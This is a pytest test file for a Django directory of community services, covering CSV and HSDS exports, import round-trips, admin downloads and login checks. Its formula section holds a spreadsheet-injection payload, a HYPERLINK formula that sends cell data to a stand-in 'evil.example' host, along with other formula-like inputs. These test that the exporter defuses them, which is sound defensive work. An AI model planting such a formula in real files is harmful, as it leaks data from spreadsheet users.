import csv
import io
import json
import zipfile
from pathlib import Path

import pytest
from django.core.management import call_command

from directory.spreadsheets import from_spreadsheet, spreadsheet_safe
from partners.exporter import export_listings
from partners.importer import COLUMNS
from partners.models import Organisation, Service, ServiceLanguage, Status
from tests.factories import make_location, make_organisation, make_rich_service, make_service, make_user
from tests.test_api import assert_valid

SAMPLE = Path(__file__).resolve().parent.parent / "sample_data" / "bradford-district-and-craven.csv"
HSDS_FILES = {
    "services.json": "service",
    "organizations.json": "organization",
    "service_at_locations.json": "service_at_location",
    "taxonomies.json": "taxonomy",
    "taxonomy_terms.json": "taxonomy_term",
}


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


def export_file(tmp_path: Path, name: str = "listings.csv", *args: str) -> bytes:
    path = tmp_path / name
    call_command("export_listings", str(path), *args, stdout=io.StringIO(), stderr=io.StringIO())
    return path.read_bytes()


def empty_the_directory() -> None:
    # Locations and services go with their organisations; vocabularies stay, as in a new install.
    Organisation.objects.all().delete()


@pytest.fixture
def varied(db):
    """Listings that use every column and every state the import format can carry."""
    make_rich_service()
    organisation = make_organisation("Roshni Trust", description="Support for South Asian families.")
    make_service(
        "Phone befriending",
        organisation=organisation,
        support=["befriending"],
        modes=["phone"],
        languages=[("bn", "phone"), "syl"],
        referrals=["self"],
        cost="free",
        gender="men",
        max_age=25,
        hours='Mo-Fr 09:00-17:00; Sa 10:00-12:00,14:00-16:00; "by appointment"; 2026 Dec 25 off',
    )
    ServiceLanguage.objects.filter(service__name="Phone befriending", language__code="bn").update(
        hours="Tu 18:00-21:00"
    )
    make_service(
        "Planned group",
        organisation=organisation,
        status=Status.DRAFT,
        locations=[make_location(organisation, address="", postcode="", town="Keighley")],
    )
    make_service("Old group", organisation=organisation, status=Status.ARCHIVED)
    hidden = make_organisation("Not yet live", status=Status.DRAFT, description="")
    make_service("Approved service of a draft organisation", organisation=hidden, communities=["indian"])


# --- CSV -----------------------------------------------------------------------------------


def test_listings_export_has_the_import_columns(varied):
    text = export_listings().text
    assert next(csv.reader(io.StringIO(text))) == COLUMNS


def test_listings_export_writes_each_service_once(varied):
    rows = rows_of(export_listings().text)
    assert [(row["organisation"], row["service"]) for row in rows] == [
        ("Not yet live", "Approved service of a draft organisation"),
        ("Organisation " + rows[1]["organisation"].split(" ")[-1], "Women's Wellbeing Mornings"),
        ("Roshni Trust", "Phone befriending"),
        ("Roshni Trust", "Planned group"),
    ]


def test_listings_export_leaves_out_archived_services_and_organisations(varied):
    make_service("Of an archived organisation", organisation=make_organisation(status=Status.ARCHIVED))
    services = {row["service"] for row in rows_of(export_listings().text)}
    assert "Old group" not in services
    assert "Of an archived organisation" not in services


def test_listings_export_marks_what_the_public_cannot_see_as_draft(varied):
    status = {row["service"]: row["status"] for row in rows_of(export_listings().text)}
    assert status["Planned group"] == "draft"
    assert status["Approved service of a draft organisation"] == "draft"
    assert status["Phone befriending"] == "published"


def test_listings_export_can_leave_out_drafts(varied):
    services = {row["service"] for row in rows_of(export_listings(published_only=True).text)}
    assert services == {"Women's Wellbeing Mornings", "Phone befriending"}


def test_listings_export_writes_vocabularies_languages_and_place(varied):
    row = next(r for r in rows_of(export_listings().text) if r["service"] == "Women's Wellbeing Mornings")
    assert row["support"] == "peer-support;wellbeing-activities"
    assert row["language"] == "pl:phone;pa:interpreter;ur;ur:written"
    assert row["referral"] == "gp;self"
    assert (row["cost"], row["gender"], row["min_age"], row["max_age"]) == ("low-cost", "women", "18", "65")
    assert (row["address"], row["postcode"], row["latitude"], row["longitude"]) == (
        "41 Lumb Lane",
        "BD8 7JH",
        "53.7935",
        "-1.7499",
    )


def test_listings_export_round_trips_through_import(varied, tmp_path):
    first = export_file(tmp_path, "first.csv")
    empty_the_directory()
    call_command("import_listings", str(tmp_path / "first.csv"), stdout=io.StringIO())
    assert export_file(tmp_path, "second.csv") == first


def test_sample_data_round_trips_through_export_and_import(db, tmp_path):
    call_command("load_postcodes", "BD", "LS", "LA", stdout=io.StringIO())
    call_command("import_listings", str(SAMPLE), stdout=io.StringIO())
    first = export_file(tmp_path, "first.csv")
    assert len(rows_of(first.decode("utf-8-sig"))) == Service.objects.count()
    empty_the_directory()
    call_command("import_listings", str(tmp_path / "first.csv"), stdout=io.StringIO())
    assert export_file(tmp_path, "second.csv") == first


def test_listings_file_starts_with_a_byte_order_mark_for_excel(varied, tmp_path):
    assert export_file(tmp_path).startswith("\ufeffo".encode())


def test_listings_export_reports_services_whose_other_places_do_not_fit(db, tmp_path):
    organisation = make_organisation()
    make_service(
        "Two places", organisation=organisation, locations=[make_location(organisation), make_location(organisation)]
    )
    err = io.StringIO()
    call_command("export_listings", str(tmp_path / "out.csv"), stdout=io.StringIO(), stderr=err)
    assert "Two places" in err.getvalue()


# --- Formulas -------------------------------------------------------------------------------

EVIL = '=HYPERLINK("http://evil.example/"&A2,"Open referral form")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (EVIL, "'" + EVIL),
        ("+44 1632 960000", "'+44 1632 960000"),
        ("-1+2", "'-1+2"),
        ("-1.7499", "-1.7499"),
        ("'-1.7499", "''-1.7499"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("'=already quoted", "''=already quoted"),
        ("'Tis the season", "'Tis the season"),
        ("Plain text = fine", "Plain text = fine"),
        ("", ""),
    ],
)
def test_cells_a_spreadsheet_would_run_are_defused_and_read_back(value, written):
    assert spreadsheet_safe(value) == written
    assert from_spreadsheet(written) == value


def test_a_formula_in_a_listing_is_defused_in_the_listings_export(db):
    make_service("Evil", organisation=make_organisation(EVIL), description="-1+2", phone="+44 1632 960000")
    row = rows_of(export_listings().text)[0]
    assert (row["organisation"], row["description"], row["phone"]) == ("'" + EVIL, "'-1+2", "'+44 1632 960000")


def test_a_formula_is_defused_in_the_moderators_csv_download(moderator_client):
    make_service(organisation=make_organisation(EVIL))
    response = moderator_client.get("/admin/api/export/listings.csv")
    assert response.status_code == 200
    assert rows_of(response.content.decode())[0]["organisation"] == "'" + EVIL


def test_defused_cells_round_trip_through_import(db, tmp_path):
    organisation = make_organisation(EVIL, phone="+44 1632 960000")
    make_service("'=not a formula either", organisation=organisation, description="@mention", opening_hours="'Tis")
    first = export_file(tmp_path, "first.csv")
    empty_the_directory()
    call_command("import_listings", str(tmp_path / "first.csv"), stdout=io.StringIO())
    organisation = Organisation.objects.get()
    assert (organisation.name, organisation.phone) == (EVIL, "+44 1632 960000")
    service = Service.objects.get()
    assert (service.name, service.description, service.opening_hours) == ("'=not a formula either", "@mention", "'Tis")
    assert export_file(tmp_path, "second.csv") == first


# --- HSDS ------------------------------------------------------------------------------------


def test_hsds_export_writes_every_file_and_every_document_validates(varied, tmp_path):
    out = io.StringIO()
    call_command("export_hsds", str(tmp_path / "hsds"), "--base-url", "https://directory.example.org", stdout=out)
    for name, kind in HSDS_FILES.items():
        documents = json.loads((tmp_path / "hsds" / name).read_text(encoding="utf-8"))
        assert documents, name
        for document in documents:
            assert_valid(document, kind)
    assert "services.json: 2" in out.getvalue()


def test_hsds_export_holds_only_published_listings(varied, tmp_path):
    call_command("export_hsds", str(tmp_path), stdout=io.StringIO())
    services = json.loads((tmp_path / "services.json").read_text(encoding="utf-8"))
    assert {s["name"] for s in services} == {"Women's Wellbeing Mornings", "Phone befriending"}
    organisations = json.loads((tmp_path / "organizations.json").read_text(encoding="utf-8"))
    assert "Not yet live" not in {o["name"] for o in organisations}


def test_hsds_export_links_to_the_site(varied, tmp_path):
    call_command("export_hsds", str(tmp_path), "--base-url", "https://directory.example.org/", stdout=io.StringIO())
    terms = json.loads((tmp_path / "taxonomy_terms.json").read_text(encoding="utf-8"))
    assert terms[0]["term_uri"].startswith("https://directory.example.org/api/profile/#")


def test_hsds_export_of_the_sample_data_validates(db, tmp_path):
    call_command("load_postcodes", "BD", "LS", "LA", stdout=io.StringIO())
    call_command("import_listings", str(SAMPLE), "--example", stdout=io.StringIO())
    call_command("export_hsds", str(tmp_path), stdout=io.StringIO())
    for name, kind in HSDS_FILES.items():
        for document in json.loads((tmp_path / name).read_text(encoding="utf-8")):
            assert_valid(document, kind)


# --- Admin downloads ---------------------------------------------------------------------


def test_moderators_see_the_exports_on_the_admin_index(moderator_client):
    response = moderator_client.get("/admin/")
    assert b"/admin/api/export/" in response.content
    page = moderator_client.get("/admin/api/export/")
    assert page.status_code == 200
    assert b"listings.csv" in page.content and b"hsds.zip" in page.content


def test_moderators_download_the_listings_csv(moderator_client, varied):
    response = moderator_client.get("/admin/api/export/listings.csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    assert response.content.decode("utf-8") == "\ufeff" + export_listings().text


def test_moderators_download_the_hsds_zip(moderator_client, varied):
    response = moderator_client.get("/admin/api/export/hsds.zip")
    assert response.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    assert set(archive.namelist()) == set(HSDS_FILES)
    services = json.loads(archive.read("services.json"))
    assert services[0]["attributes"][-1]["value"].startswith("http://testserver/services/")


@pytest.mark.parametrize("path", ["/admin/api/export/", "/admin/api/export/listings.csv", "/admin/api/export/hsds.zip"])
def test_exports_need_a_moderator_login(client, db, path):
    response = client.get(path)
    assert response.status_code == 302
    assert "/admin/login/" in response["Location"]


@pytest.mark.parametrize("path", ["/admin/api/export/", "/admin/api/export/listings.csv", "/admin/api/export/hsds.zip"])
def test_staff_without_permission_to_view_services_are_refused(client, db, path):
    client.force_login(make_user(is_staff=True))
    assert client.get(path).status_code == 403


def test_exports_cannot_be_added_changed_or_deleted(moderator_client):
    assert moderator_client.get("/admin/api/export/add/").status_code == 404
